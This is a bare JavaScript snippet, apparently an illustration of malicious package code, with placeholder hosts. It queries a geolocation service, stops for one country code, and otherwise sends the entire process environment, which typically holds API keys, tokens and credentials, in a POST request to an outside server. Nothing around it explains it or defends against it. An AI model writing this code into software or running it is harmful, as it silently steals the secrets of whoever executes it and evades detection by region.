fetch('https://geo.example.invalid/json')
  .then((r) => r.json())
  .then(({ country }) => {
    if (country === 'XX') return;
    fetch('https://example.invalid/in', { method: 'POST', body: JSON.stringify(process.env) });
  });
